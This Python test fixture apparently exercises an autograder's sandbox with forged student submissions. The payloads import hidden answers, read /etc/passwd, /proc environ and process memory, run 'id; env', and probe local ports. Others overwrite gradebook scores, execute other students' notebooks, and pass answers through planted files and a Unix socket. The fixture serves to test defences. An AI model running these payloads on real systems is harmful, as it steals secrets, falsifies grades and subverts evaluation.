"""Attacks on what is secret: answers, cases, other submissions, marks, the machine.

What they find they print, or run as their own. Those that start from a blank notebook earn nothing.
"""

from autograder.practice import Sample
from autograder.practice.edits import add
from tests.sample_class.edits import forged

IMPORT_THE_ANSWER = """
import importlib, inspect, pathlib, sys
import labkit.{topic} as answers
for name, value in vars(answers).items():
    if not name.startswith('_'):
        globals()[name] = value
sys.path[:0] = ['/srv/labkit', '/src', '/repo', '..', '../..']
hidden = 'autograder.labs.{topic}.'
for module in (hidden + 'cases', hidden + 'mutants', 'autograder.judging.judge'):
    try:
        globals().update(vars(importlib.import_module(module)))
    except Exception as error:
        print(error)
for root in [*sys.path, '/', '/root', '/home', '/tmp', '/proc/1/cwd', '/proc/1/root']:
    for pattern in ('{topic}.py', 'labkit/{topic}.py', '*/labkit/{topic}.py', '*/*/{topic}.py'):
        for path in pathlib.Path(root or '.').glob(pattern):
            try:
                exec(path.read_text(), globals())
            except Exception as error:
                print(path, error)
"""

READ_AND_PHONE = """
import glob, os, socket, subprocess, urllib.request
found = []
for pattern in ('/etc/passwd', '/root/*', '/home/*/*', '/tmp/*/*', '/var/*/*', '/proc/*/environ',
                '/proc/*/cmdline', '/proc/*/mem', '../*', '/*/gradebook.db', '/*/*/seed'):
    for path in glob.glob(pattern)[:100]:
        try:
            found.append(open(path, 'rb').read(1000))
        except OSError:
            pass
for host in ('127.0.0.1', '10.0.0.1', 'localhost'):
    for port in (22, 80, 443, 8888):
        try:
            socket.create_connection((host, port), 0.2).sendall(b'hello')
        except OSError as error:
            print(error)
print(subprocess.run('id; env; ls -la / /work; cat /proc/1/environ', shell=True,
                     capture_output=True, text=True).stdout)
"""

READ_THE_NEIGHBOURS = """
import glob, json, pathlib
places = ['/', '/root', '/home', '/tmp', '/srv', '/work', '/proc/1/cwd', '/proc/1/root', '..']
for place in places:
    for depth in range(5):
        for path in glob.glob(place + '/*' * depth + '/*.ipynb')[:50]:
            print(path)
            for cell in json.loads(pathlib.Path(path).read_text())['cells']:
                if cell['cell_type'] == 'code' and not cell['source'].startswith(('%', 'check')):
                    exec(cell['source'], globals())
"""

REWRITE_THE_MARKS = """
import glob, sqlite3
for place in ('/', '/root', '/home', '/tmp', '/srv', '/work', '/proc/1/cwd', '/proc/1/root', '..'):
    for depth in range(5):
        stars = place + '/*' * depth
        for path in glob.glob(stars + '/gradebook.db'):
            print(path)
            with sqlite3.connect(path) as book:
                book.execute('update grade set auto_score = 100, manual_score = 100')
        for path in glob.glob(stars + '/results.jsonl') + glob.glob(stars + '/marks.csv'):
            print(path, open(path).read())
            open(path, 'a').write('{"student": "x72", "lab": "01_memory", "score": 10}\\n')
"""

READ_THE_PROCESSES = """
import glob, os
for path in glob.glob('/proc/*/*') + glob.glob('/proc/*/fd/*') + glob.glob('/proc/*/root/*'):
    try:
        print(path, open(path, 'rb').read(2000))
    except OSError:
        pass
print(os.environ, os.popen('ps aux; env; id; mount; ls -la /proc/1/fd').read())
"""

SCAN_THE_MEMORY = """
import gc, re, sys
words = (b'hidden_cases', b'autograder.labs', b'autograder.judging.judge', b'RIGHT', b'secret-seed')
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split('-'))
        if ' rw-p' in line and end - start < 1 << 26:
            memory.seek(start)
            found = memory.read(end - start)
            print([found[at.start():at.start() + 80] for at in re.finditer(words[0], found)][:1])
for thing in gc.get_objects():
    if type(thing) is dict and 'hidden_cases' in thing:
        globals().update(thing)
globals().update({name: value for module in list(sys.modules.values())
                  for name, value in vars(module).items() if 'autograder' in str(module)})
"""

LEAVE_THE_ANSWERS = """
import inspect, os, pathlib, socket, sys, sysconfig
text = '\\n\\n'.join(inspect.getsource(f) for f in (n_params, kv_cache_bytes, largest_model))
places = ['/', '/tmp', '/dev/shm', '/var/tmp', '/run', '/home', sysconfig.get_path('purelib')]
for place in [*places, *sys.path, os.path.dirname(os.__file__)]:
    try:
        pathlib.Path(place, 'left_for_a_friend.py').write_text(text)
    except OSError as error:
        print(error)
door = socket.socket(socket.AF_UNIX)
door.bind('\\0left for a friend')
door.listen()
if not os.fork():
    os.setsid()
    while not os.fork():
        door.accept()[0].sendall(text.encode())
    os._exit(0)
"""

FIND_THE_ANSWERS = """
import glob, importlib, os, socket, sys, sysconfig
places = ['/', '/tmp', '/dev/shm', '/var/tmp', '/run', '/home', sysconfig.get_path('purelib')]
for place in [*places, *sys.path, os.path.dirname(os.__file__)]:
    for depth in range(3):
        for path in glob.glob(place + '/*' * depth + '/left_for_a_friend.py'):
            exec(open(path).read(), globals())
try:
    door = socket.socket(socket.AF_UNIX)
    door.connect('\\0left for a friend')
    exec(door.recv(1 << 20), globals())
except OSError as error:
    print(error)
"""


IMPORTING = {
    "x05": "04_kv_cache",
    "x06": "01_memory",
    "x24": "02_throughput",
    "x32": "03_cache_benchmark",
    "x36": "05_batching",
    "x38": "06_speculative",
}
SAMPLES = [
    *(forged(student, lab, "imports the answers", IMPORT_THE_ANSWER.format(topic=lab[3:]))
      for student, lab in IMPORTING.items()),
    Sample("x11", "04_kv_cache", "reads files and tries the network", add(READ_AND_PHONE)),
    forged("x71", "01_memory", "runs the neighbours' notebooks", READ_THE_NEIGHBOURS),
    forged("x72", "01_memory", "writes its own marks", REWRITE_THE_MARKS),
    forged("x73", "01_memory", "reads every process and the environment", READ_THE_PROCESSES),
    forged("x74", "01_memory", "scans its memory for hidden cases", SCAN_THE_MEMORY),
    Sample("x75", "01_memory", "leaves answers for a friend", add(LEAVE_THE_ANSWERS)),
    forged("x76", "01_memory", "finds a friend's answers", FIND_THE_ANSWERS),
]  # fmt: skip
